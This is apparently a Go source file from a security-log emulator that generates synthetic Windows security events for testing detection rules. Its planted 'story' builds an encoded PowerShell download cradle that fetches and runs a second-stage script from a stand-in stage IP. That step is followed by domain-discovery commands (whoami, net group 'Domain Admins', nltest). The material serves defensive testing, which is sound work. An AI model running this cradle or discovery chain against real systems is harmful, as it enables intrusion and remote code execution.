package seed

import (
	"encoding/base64"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"

	"github.com/sentinel-mcp/sentinel-mcp/internal/emulator/world"
)

// EncodedCommandLine is the command line of the planted encoded PowerShell on a host: a macro-enabled
// document starts PowerShell with a hidden window and a base64 (UTF-16LE, as -EncodedCommand expects)
// download cradle for the campaign's second stage at world.PowerShellStageIP. Tests and incidents use it.
func EncodedCommandLine(host string) string {
	return "powershell.exe -NoP -NonI -W Hidden -enc " + encodedPayload(host)
}

// StageURL is the second-stage URL the planted PowerShell downloads on a host.
func StageURL(host string) string {
	return "http://" + world.PowerShellStageIP + "/" + strings.ToLower(host) + "/stage2.ps1"
}

func encodedPayload(host string) string {
	cmd := "IEX (New-Object Net.WebClient).DownloadString('" + StageURL(host) + "')"
	u := utf16.Encode([]rune(cmd))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// procSpec is a process start: image, command line and parent image.
type procSpec struct{ image, cmd, parent string }

// Background processes on workstations and servers. None of their command lines contains " -e ",
// " -enc " or " -EncodedCommand " (the encoded PowerShell rules match those case-insensitively).
var (
	desktopProcs = []procSpec{
		{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE"`, `C:\Windows\explorer.exe`},
		{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n`, `C:\Windows\explorer.exe`},
		{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, `"C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE"`, `C:\Windows\explorer.exe`},
		{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, `"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=renderer --lang=en-US`, `C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`},
		{`C:\Program Files\Microsoft OneDrive\OneDrive.exe`, `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, `C:\Windows\explorer.exe`},
		{`C:\Users\Public\Teams\current\ms-teams.exe`, `"ms-teams.exe" --system-initiated`, `C:\Windows\explorer.exe`},
		{`C:\Windows\System32\cmd.exe`, `C:\Windows\system32\cmd.exe /c ipconfig /all`, `C:\Windows\explorer.exe`},
		{`C:\Windows\System32\conhost.exe`, `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`, `C:\Windows\System32\cmd.exe`},
		{`C:\Windows\System32\taskhostw.exe`, `taskhostw.exe -RegisterDevice -ProtectionStateChanged`, `C:\Windows\System32\svchost.exe`},
	}
	serverProcs = []procSpec{
		{`C:\Windows\System32\svchost.exe`, `C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule`, `C:\Windows\System32\services.exe`},
		{`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\Scripts\inventory.ps1`, `C:\Windows\System32\svchost.exe`},
		{`C:\Windows\System32\wbem\WmiPrvSE.exe`, `C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding`, `C:\Windows\System32\svchost.exe`},
		{`C:\Windows\System32\inetsrv\w3wp.exe`, `c:\windows\system32\inetsrv\w3wp.exe -ap "DefaultAppPool" -v "v4.0" -l "webengine4.dll" -h "C:\inetpub\temp\apppools\DefaultAppPool\DefaultAppPool.config"`, `C:\Windows\System32\svchost.exe`},
		{`C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe`, `"C:\Program Files\Microsoft Monitoring Agent\Agent\MonitoringHost.exe" -Embedding`, `C:\Windows\System32\svchost.exe`},
		{`C:\Windows\System32\gpupdate.exe`, `gpupdate.exe /target:computer`, `C:\Windows\System32\svchost.exe`},
	}
)

// storyProcs is the planted process chain of an encoded-PowerShell story: the document's PowerShell, then
// discovery commands it runs.
func storyProcs(host string) []procSpec {
	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
	return []procSpec{
		{ps, EncodedCommandLine(host), `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
		{`C:\Windows\System32\whoami.exe`, `"C:\Windows\system32\whoami.exe" /all`, ps},
		{`C:\Windows\System32\net.exe`, `"C:\Windows\system32\net.exe" group "Domain Admins" /domain`, ps},
		{`C:\Windows\System32\nltest.exe`, `"C:\Windows\system32\nltest.exe" /dclist:`, ps},
	}
}

// storyProcGap separates the planted processes.
const storyProcGap = 40 * time.Second

type secEvent struct {
	id     int64
	task   int64
	weight float64
	dc     bool // written by the domain controller (Kerberos, account management)
	title  string
}

// Windows security events by share of volume. Group changes are to ordinary groups: a change to a
// privileged one is what the privileged-group rule looks for. No 1102 (log cleared): a rule flags it.
var secEvents = []secEvent{
	{4624, 12544, 30, false, "An account was successfully logged on."},
	{4688, 13312, 22, false, "A new process has been created."},
	{4634, 12545, 12, false, "An account was logged off."},
	{4672, 12548, 6, false, "Special privileges assigned to new logon."},
	{4768, 14339, 8, true, "A Kerberos authentication ticket (TGT) was requested."},
	{4769, 14337, 10, true, "A Kerberos service ticket was requested."},
	{4776, 14336, 5, true, "The computer attempted to validate the credentials for an account."},
	{4625, 12544, 3, false, "An account failed to log on."},
	{4738, 13824, 0.8, true, "A user account was changed."},
	{4728, 13826, 0.4, true, "A member was added to a security-enabled global group."},
	{4732, 13826, 0.3, true, "A member was added to a security-enabled local group."},
	{4720, 13824, 0.2, true, "A user account was created."},
	{4740, 13824, 0.2, true, "A user account was locked out."},
}

var secWeights = func() []float64 {
	w := make([]float64, len(secEvents))
	for i, e := range secEvents {
		w[i] = e.weight
	}
	return w
}()

var logonTypes = []struct {
	n    int64
	name string
}{{3, "3 - Network"}, {3, "3 - Network"}, {3, "3 - Network"}, {2, "2 - Interactive"}, {7, "7 - Unlock"},
	{10, "10 - RemoteInteractive"}, {5, "5 - Service"}}

type secCols struct {
	f                                                                              *frame
	tg, computer, eventID, activity, account, accountType, accountName, accDomain  *colBuf
	level, task, logonType, logonTypeName, ip, targetUser, targetDomain, targetSid *colBuf
	subjUser, subjDomain, subjAccount, subjSid, subjLogon, newProc, cmd, parent    *colBuf
	newPID, pid, procName, status, subStatus, authPkg, logonProc, workstation      *colBuf
	member, memberSid, targetAccount, resID, srcComputer, elevation, label, ipPort *colBuf
	upn, targetLogon, svcName                                                      *colBuf
}

func genSecurityEvent(g *genCtx, n int) *frame {
	f := g.newFrame("SecurityEvent", n+16)
	for k, v := range map[string]any{"EventSourceName": "Microsoft-Windows-Security-Auditing", "Channel": "Security",
		"SourceSystem": "OpsManager", "ManagementGroupName": "AOI-" + g.ws.CustomerID} {
		f.setConst(k, v)
	}
	c := &secCols{f: f, resID: f.vary("_ResourceId")}
	for name, dst := range map[string]**colBuf{"TimeGenerated": &c.tg, "Computer": &c.computer, "EventID": &c.eventID,
		"Activity": &c.activity, "Account": &c.account, "AccountType": &c.accountType, "Level": &c.level, "Task": &c.task,
		"LogonType": &c.logonType, "LogonTypeName": &c.logonTypeName, "IpAddress": &c.ip, "TargetUserName": &c.targetUser,
		"TargetDomainName": &c.targetDomain, "TargetUserSid": &c.targetSid, "SubjectUserName": &c.subjUser,
		"SubjectDomainName": &c.subjDomain, "SubjectAccount": &c.subjAccount, "SubjectUserSid": &c.subjSid,
		"SubjectLogonId": &c.subjLogon, "NewProcessName": &c.newProc, "CommandLine": &c.cmd, "ParentProcessName": &c.parent,
		"NewProcessId": &c.newPID, "ProcessId": &c.pid, "ProcessName": &c.procName, "Status": &c.status,
		"SubStatus": &c.subStatus, "AuthenticationPackageName": &c.authPkg, "LogonProcessName": &c.logonProc,
		"WorkstationName": &c.workstation, "MemberName": &c.member, "MemberSid": &c.memberSid,
		"TargetAccount": &c.targetAccount, "AccountName": &c.accountName, "AccountDomain": &c.accDomain,
		"SourceComputerId": &c.srcComputer, "TokenElevationType": &c.elevation, "MandatoryLabel": &c.label,
		"IpPort": &c.ipPort, "UserPrincipalName": &c.upn, "TargetLogonId": &c.targetLogon, "ServiceName": &c.svcName} {
		*dst = f.col(name)
	}
	agents := g.pop.winAgents
	users := map[*host][]*user{}
	for _, u := range g.pop.users {
		users[u.Device] = append(users[u.Device], u)
	}
	g.spread(n, func(ts time.Time) {
		e := secEvents[weighted(g.r, secWeights)]
		h := g.pop.dc
		if !e.dc {
			h = pick(g.r, agents)
		}
		u := g.someone(ts)
		if us := users[h]; len(us) > 0 && !h.Server { // a workstation's events are its owner's
			u = pick(g.r, us)
		}
		if e.id == 4688 {
			procs := serverProcs
			if !h.Server {
				procs = desktopProcs
			}
			p := pick(g.r, procs)
			if h.Server {
				c.process(g, ts, h, nil, p)
			} else {
				c.process(g, ts, h, u, p)
			}
			return
		}
		c.event(g, ts, h, u, e)
	})
	for _, s := range g.storiesOf(world.StoryEncodedPowerShell) {
		h, u := g.pop.hostNamed(s.Host), g.pop.user(s.Account)
		for i, p := range storyProcs(s.Host) {
			c.process(g, s.Start(g.now).Add(time.Duration(i)*storyProcGap), h, u, p)
		}
	}
	return f
}

func (c *secCols) common(g *genCtx, ts time.Time, h *host, id, task int64, title string) {
	c.tg.t(ts)
	c.computer.s(h.FQDN)
	c.eventID.i(id)
	c.task.i(task)
	c.activity.s(strconv.FormatInt(id, 10) + " - " + title)
	c.resID.s(strings.ToLower(h.ResourceID))
	c.srcComputer.s(h.VMUUID)
}

func hexPID(g *genCtx) string { return "0x" + strconv.FormatInt(int64(0x400+4*g.r.IntN(0x3f00)), 16) }

// process writes a 4688; u nil is the machine itself (SYSTEM).
func (c *secCols) process(g *genCtx, ts time.Time, h *host, u *user, p procSpec) {
	c.common(g, ts, h, 4688, 13312, "A new process has been created.")
	if u == nil {
		c.account.s(`NT AUTHORITY\SYSTEM`)
		c.accountType.s("Machine")
		c.accountName.s("SYSTEM")
		c.accDomain.s("NT AUTHORITY")
		c.subjUser.s(strings.ToUpper(h.Name) + "$")
		c.subjDomain.s(g.pop.netbios)
		c.subjAccount.s(g.pop.netbios + `\` + strings.ToUpper(h.Name) + "$")
		c.subjSid.s("S-1-5-18")
		c.subjLogon.s("0x3e7")
		c.elevation.s("%%1936")
		c.label.s("S-1-16-16384")
	} else {
		acct := g.pop.netbios + `\` + u.Sam
		c.account.s(acct)
		c.accountType.s("User")
		c.accountName.s(u.Sam)
		c.accDomain.s(g.pop.netbios)
		c.subjUser.s(u.Sam)
		c.subjDomain.s(g.pop.netbios)
		c.subjAccount.s(acct)
		c.subjSid.s(u.SID)
		c.subjLogon.s("0x" + strconv.FormatInt(int64(0x3e7000+g.r.IntN(0xffff)), 16))
		c.elevation.s("%%1938")
		c.label.s("S-1-16-8192")
	}
	c.newProc.s(p.image)
	c.cmd.s(p.cmd)
	c.parent.s(p.parent)
	c.procName.s(p.parent)
	c.newPID.s(hexPID(g))
	c.pid.s(hexPID(g))
	c.level.s("8")
	c.f.end()
}

func (c *secCols) event(g *genCtx, ts time.Time, h *host, u *user, e secEvent) {
	c.common(g, ts, h, e.id, e.task, e.title)
	acct := g.pop.netbios + `\` + u.Sam
	c.account.s(acct)
	c.accountType.s("User")
	c.accountName.s(u.Sam)
	c.accDomain.s(g.pop.netbios)
	c.targetDomain.s(g.pop.netbios)
	if e.id == 4625 {
		c.level.s("16") // audit failure
	} else {
		c.level.s("8") // audit success
	}
	if e.id != 4728 && e.id != 4732 { // group changes target the group, the others the account
		c.targetUser.s(u.Sam)
		c.targetSid.s(u.SID)
		c.targetAccount.s(acct)
	}
	switch e.id {
	case 4624, 4625:
		lt := pick(g.r, logonTypes)
		c.logonType.i(lt.n)
		c.logonTypeName.s(lt.name)
		c.ip.s(u.Device.IP)
		c.ipPort.s(itoa(int64(49152 + g.r.IntN(16000))))
		c.workstation.s(u.Device.Name)
		c.targetLogon.s("0x" + strconv.FormatInt(int64(0x1000000+g.r.IntN(0xffffff)), 16))
		if g.r.IntN(3) == 0 {
			c.authPkg.s("NTLM")
			c.logonProc.s("NtLmSsp ")
		} else {
			c.authPkg.s("Kerberos")
			c.logonProc.s("Kerberos")
		}
		c.subjSid.s("S-1-0-0")
		if e.id == 4625 {
			// 0xc000006d/0xc000006a: logon failure, bad password for an existing account.
			c.status.s("0xc000006d")
			c.subStatus.s("0xc000006a")
		}
	case 4768, 4769, 4776:
		c.ip.s("::ffff:" + u.Device.IP)
		c.workstation.s(u.Device.Name)
		c.upn.s(u.UPN)
		c.status.s("0x0")
		if e.id == 4769 {
			c.svcName.s(strings.ToLower(pick(g.r, []string{"SRV-FS-01$", "SRV-SQL-01$", "SRV-WEB-01$", "krbtgt"})))
		}
	case 4728, 4732:
		group := pick(g.r, []string{"VPN Users", "Finance Team", "Remote Workers"})
		if e.id == 4732 {
			group = "Remote Desktop Users"
		}
		admin := pick(g.r, g.pop.admins)
		c.targetUser.s(group)
		c.targetAccount.s(g.pop.netbios + `\` + group)
		c.member.s("CN=" + u.Display + ",OU=Staff,DC=" + strings.ToLower(g.pop.netbios) + ",DC=com")
		c.memberSid.s(u.SID)
		c.subjUser.s(admin.Sam)
		c.subjDomain.s(g.pop.netbios)
		c.subjAccount.s(g.pop.netbios + `\` + admin.Sam)
		c.subjSid.s(admin.SID)
	case 4720, 4738, 4740:
		admin := pick(g.r, g.pop.admins)
		c.subjUser.s(admin.Sam)
		c.subjDomain.s(g.pop.netbios)
		c.subjAccount.s(g.pop.netbios + `\` + admin.Sam)
		c.subjSid.s(admin.SID)
	}
	c.f.end()
}
